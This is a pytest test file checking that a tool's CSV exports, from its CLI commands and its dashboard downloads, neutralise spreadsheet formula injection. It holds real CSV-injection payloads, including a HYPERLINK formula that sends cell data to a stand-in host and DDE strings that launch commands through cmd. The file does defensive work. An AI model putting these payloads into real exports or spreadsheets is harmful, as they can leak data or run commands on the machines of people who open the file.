"""CSV exports never hand a spreadsheet a formula (OWASP "CSV Injection").

Every CSV figtrace writes (``extract``/``claims``/``timeline``/``conflicts``/
``sources --format csv`` and the dashboard's ``/download/*.csv``) goes
through :func:`figtrace.output.write_rows`; these tests feed it cells an
attacker controls (a quote, an outlet, a source name) and read them back.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from figtrace.cli import main
from figtrace.model import Claim, Document
from figtrace.output import csv_cell, write_rows
from figtrace.store import Ledger
from figtrace.web import create_app

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("value", [-3, -3.5, "-3", "+1.5e3", "-1,000", "2000", "", None, "North Korea",
                                   "a=b", "über 6000"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    out = csv_cell(value)
    assert not out.startswith("'")
    assert out == ("" if value is None else str(value))


def test_write_rows_neutralises_every_cell_and_quotes_every_field() -> None:
    buf = io.StringIO()
    rows = [{"quote": "=1+1", "figure": "-5", "source": "@Ministry", "value": -5}]
    write_rows(rows, "csv", ("quote", "figure", "source", "value"), out=buf)
    lines = buf.getvalue().splitlines()
    assert lines[1] == '"\'=1+1","-5","\'@Ministry","-5"'
    back = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert back == {"quote": "'=1+1", "figure": "-5", "source": "'@Ministry", "value": "-5"}


def test_a_hostile_header_is_neutralised_too() -> None:
    buf = io.StringIO()
    write_rows([{"=cmd": 1}], "csv", out=buf)
    assert buf.getvalue().splitlines()[0] == '"\'=cmd"'


def test_jsonl_keeps_the_text_exactly() -> None:
    buf = io.StringIO()
    write_rows([{"quote": "=1+1"}], "jsonl", out=buf)
    assert buf.getvalue() == '{"quote": "=1+1"}\n'


# -- through the commands and the dashboard -----------------------------------------

HOSTILE_QUOTE = "=HYPERLINK(\"http://evil.example\") said 300 soldiers were killed."


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("csv") / "hostile.db"
    text = HOSTILE_QUOTE
    doc = Document(text=text, name="=evil.txt", outlet="@Outlet", published="2025-05-01", lang="en")
    start = text.index("300")
    claim = Claim(doc=doc.name, quote=text, figure="300", value=300, low=300, high=300, qualifier="exact",
                  measure="killed", actor="North Korea", unit="personnel", source="+Ministry", as_of="2025-04",
                  location=None, start=start, end=start + 3, quote_start=0, quote_end=len(text), lang="en",
                  published=doc.published, outlet=doc.outlet, url=None, doc_id=doc.id)
    with Ledger(path) as ledger:
        ledger.add_document(doc, [claim])
    return path


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and c[1:2].isalpha())]
    assert not bad, bad


def test_claims_command_csv_is_neutralised(db: Path) -> None:
    out = CliRunner().invoke(main, ["claims", "--db", str(db), "--format", "csv"])
    assert out.exit_code == 0, out.output
    cells = _cells(out.stdout)
    assert "'" + HOSTILE_QUOTE in cells and "'+Ministry" in cells and "'@Outlet" in cells
    _no_formula(cells)


def test_timeline_and_sources_commands_csv_are_neutralised(db: Path) -> None:
    for args in (["timeline", "--actor", "North Korea", "--measure", "killed"], ["sources"]):
        out = CliRunner().invoke(main, [*args, "--db", str(db), "--format", "csv"])
        assert out.exit_code == 0, out.output
        cells = _cells(out.stdout)
        assert "'+Ministry" in cells
        _no_formula(cells)


def test_extract_csv_is_neutralised(tmp_path: Path) -> None:
    f = tmp_path / "a.txt"
    f.write_text("=cmd| said: 300 soldiers were killed in the attack on Monday, the ministry said.\n",
                 encoding="utf-8")
    out = CliRunner().invoke(main, ["extract", str(f), "--format", "csv", "--lang", "en",
                                    "--published", "2025-05-01"])
    cells = _cells(out.stdout)
    assert any(c.startswith("'=cmd|") for c in cells), cells
    _no_formula(cells)


def test_dashboard_downloads_are_neutralised(db: Path) -> None:
    client = TestClient(create_app(db), base_url="http://127.0.0.1")
    claims = client.get("/download/claims.csv")
    assert claims.status_code == 200
    cells = _cells(claims.text)
    assert "'" + HOSTILE_QUOTE in cells and "'+Ministry" in cells
    _no_formula(cells)
    tl = client.get("/download/timeline.csv", params={"actor": "North Korea", "measure": "killed"})
    assert tl.status_code == 200
    assert "'+Ministry" in _cells(tl.text)
    _no_formula(_cells(tl.text))
